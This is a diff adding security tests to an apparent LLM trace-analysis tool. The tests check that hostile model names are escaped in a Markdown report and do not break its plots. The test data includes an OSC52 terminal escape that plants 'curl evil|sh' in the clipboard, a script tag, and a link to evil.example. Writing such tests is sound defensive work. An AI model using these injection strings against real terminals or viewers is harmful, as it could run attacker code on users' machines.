@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Callable
 from pathlib import Path
 
@@ -137,3 +138,58 @@ def test_trace_without_hashes_or_latency_reports_null(tmp_path: Path) -> None:
     assert model["input_tokens"]["p50"] == pytest.approx(385.0)
     assert not (out / "prefix_reuse.json").exists() and not (out / "latency.json").exists()
     assert not list(out.glob("*.png"))
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
+HOSTILE_MODELS = [
+    "a|b|c",  # three cells of the table
+    "<script>alert(1)</script>",
+    "[click](https://evil.example)",
+    "`code` and &lt;",
+    "m" + OSC52 + "\n| forged | row |",
+    "$\\frac{a$",  # a mathtext parse error at savefig
+    "_hidden",  # left out of a legend
+]
+
+
+def _hostile_trace(path: Path) -> Path:
+    rows = [{"timestamp": float(i * 7 + j), "model": m, "input_tokens": 10 + j,
+             "output_tokens": 5, "hash_ids": [1, j], "block_tokens": 16, "latency_s": 1.0}
+            for i, m in enumerate(HOSTILE_MODELS) for j in range(3)]
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    return path
+
+
+@pytest.mark.hostile
+def test_model_names_in_report_md_are_inert(tmp_path: Path) -> None:
+    """`trace analyze`'s report.md carries the models clients asked for: in a Markdown
+    viewer none breaks the table, renders HTML, links or code, and no ESC reaches a terminal
+    that shows the file."""
+    out = tmp_path / "out"
+    analyze_trace(_hostile_trace(tmp_path / "t.jsonl"), out, plots_enabled=False)
+    report = (out / "report.md").read_text()
+    assert "\x1b" not in report and "<script>" not in report
+    assert not re.search(r"(?<!\\)\]\(https://evil", report)  # no link
+    table = [ln for ln in report.splitlines() if ln.startswith("|")]
+    assert len(table) == 2 + len(HOSTILE_MODELS)
+    # Every row has the table's 7 cells: no unescaped "|" inside one.
+    assert all(len(re.split(r"(?<!\\)\|", ln)) == 9 for ln in table)
+    assert "| a\\|b\\|c |" in report and "\\<script\\>" in report
+    assert r"| m\\x1b\]52;c;Y3VybCBldmlsfHNo\\x1b\\\\n\| forged \| row \| |" in report
+
+
+@pytest.mark.slow
+@pytest.mark.hostile
+def test_model_names_cannot_break_the_plots(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    analyze_trace(_hostile_trace(tmp_path / "t.jsonl"), out)
+    for fig in ("tiers", "burstiness", "lengths", "prefix_reuse"):
+        assert (out / f"{fig}.png").read_bytes()[:4] == b"\x89PNG"
+
+
+def test_plot_labels_are_verbatim() -> None:
+    from llmfabric.traces.plots import label
+
+    assert label("meta-llama/Llama-3.1-8B") == "meta-llama/Llama-3.1-8B"
+    assert label("$\\frac{a$") == "\\$\\frac{a\\$"
+    assert label("_hidden") == " _hidden" and label("a\x1b") == "a\\x1b"
